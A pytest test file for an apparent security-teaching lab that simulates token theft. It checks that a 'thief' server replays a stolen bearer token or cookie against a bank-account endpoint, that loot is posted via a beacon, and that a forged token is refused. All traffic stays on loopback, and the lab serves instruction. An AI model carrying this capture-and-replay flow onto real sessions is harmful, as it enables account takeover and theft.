"""The requests that a server of the lab sends by itself: to this server alone, over real HTTP."""

import json
import socket
import ssl
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from django.test import RequestFactory
from pytest_django.live_server_helper import LiveServer

from lab import outgoing
from tests.clients import AttackerClient
from tests.lab.clients import LAB, LabClient
from tools import certificate

RUN = "run-of-this-test"


class Listener(ThreadingHTTPServer):
    """Gives one answer to whatever comes, and keeps the requests."""

    def __init__(self, answer: bytes) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.answer = answer
        self.seen: list[tuple[str, str, dict[str, str]]] = []


class Handler(BaseHTTPRequestHandler):
    server: Listener

    def do_POST(self) -> None:
        self.server.seen.append((self.command, self.path, dict(self.headers)))
        self.wfile.write(self.server.answer)

    def log_message(self, *_: Any) -> None:
        pass


@contextmanager
def listening(answer: bytes, tls: ssl.SSLContext | None = None) -> Iterator[Listener]:
    """A server on loopback, over TLS if asked."""
    with Listener(answer) as server:
        if tls:
            server.socket = tls.wrap_socket(server.socket, server_side=True)
        thread = threading.Thread(target=server.serve_forever, args=(0.01,))
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()


def ok(body: object) -> bytes:
    return b"HTTP/1.0 200 OK\r\n\r\n" + json.dumps(body).encode()


def send(
    port: int, host: str = "lab", *, secure: bool = False, **credentials: str
) -> outgoing.Answer:
    request = RequestFactory().get("/", secure=secure, SERVER_PORT=str(port))
    return outgoing.send(request, host, "POST", "/bank/account", **credentials)


@pytest.mark.parametrize(("host", "name"), [("app", "localhost"), ("lab", LAB)])
@pytest.mark.parametrize(
    ("credentials", "sent"),
    [
        ({"bearer": "a.b.c"}, {"Authorization": "Bearer a.b.c"}),
        ({"cookie": "lab_token=a.b.c"}, {"Cookie": "lab_token=a.b.c"}),
        ({}, {}),
    ],
)
def test_request_goes_to_our_host_with_what_it_was_given(
    host: str, name: str, credentials: dict[str, str], sent: dict[str, str]
) -> None:
    """Our name, the thief's user agent, one credential: nothing of the caller's."""
    with listening(ok({"balance": 99})) as server:
        answer = send(server.server_port, host, **credentials)

    assert answer == outgoing.Answer(200, {"balance": 99})
    [(method, path, headers)] = server.seen
    assert (method, path, headers["Host"]) == ("POST", "/bank/account", name)
    assert headers["User-Agent"] == "the-thief/1"
    assert {one: headers[one] for one in ("Authorization", "Cookie") if one in headers} == sent


def test_request_reaches_a_server_with_the_demos_own_certificate(tmp_path: Path) -> None:
    """Over HTTPS the connection stays on this machine, where nobody has to vouch for it."""
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(*certificate.ensure(tmp_path))

    with listening(ok({"balance": 99}), tls) as server:
        answer = send(server.server_port, secure=True)

    assert answer == outgoing.Answer(200, {"balance": 99})


@pytest.mark.parametrize(
    ("said", "status"),
    [(b"HTTP/1.0 502 Bad Gateway\r\n\r\n<h1>Sorry</h1>", 502), (ok([1]), 200), (b"Hello\r\n", 0)],
    ids=["no JSON", "no object", "no HTTP"],
)
def test_answer_that_is_no_object_is_an_empty_one(said: bytes, status: int) -> None:
    """Whatever stands between the servers may answer: the page shows a status and goes on."""
    with listening(said) as server:
        assert send(server.server_port) == outgoing.Answer(status, {})


def test_server_that_cannot_be_reached_is_no_answer() -> None:
    """Status 0 says that there was none."""
    with socket.socket() as silent:
        # Bound and not listening: nobody else can begin to answer there meanwhile.
        silent.bind(("127.0.0.1", 0))

        assert send(silent.getsockname()[1]) == outgoing.Answer(0, {})


def test_thief_spends_the_loot_without_the_victims_browser(
    live_server: LiveServer, lab_client: LabClient, mallory: AttackerClient
) -> None:
    """Its own server presents the copy to the lab's API, and the victim's money is gone."""
    tag = lab_client.watch()["tag"]
    token = lab_client.post("/bank/storage/sign-in", {"place": "local"}).json()["access_token"]
    at_thief = {"SERVER_NAME": "127.0.0.1", "SERVER_PORT": str(live_server.thread.port)}
    mallory.post(f"/loot?tag={tag}&run={RUN}&via=beacon", token, **at_thief)

    answers = mallory.post(f"/thief/use?tag={tag}&run={RUN}", **at_thief).json()["answers"]

    assert answers == [{"status": 200, "balance": 99}]
    evidence = lab_client.get(f"/learn/api/evidence?run={RUN}").json()
    assert evidence["balance"] == 99
    assert evidence["entries"][-1]["answers"] == answers


def test_token_of_the_lab_is_presented_to_the_real_api_and_refused(
    live_server: LiveServer, lab_client: LabClient
) -> None:
    """The verdict beside the card is what the app's own API answered to these bytes."""
    lab_client.watch()

    port = live_server.thread.port

    answer = lab_client.post(
        "/learn/api/forge/lab-token",
        {},
        SERVER_PORT=str(port),
        headers={"Origin": f"http://{LAB}:{port}"},
    )

    assert answer.json()["answer"] == {"status": 401, "code": "invalid_token"}
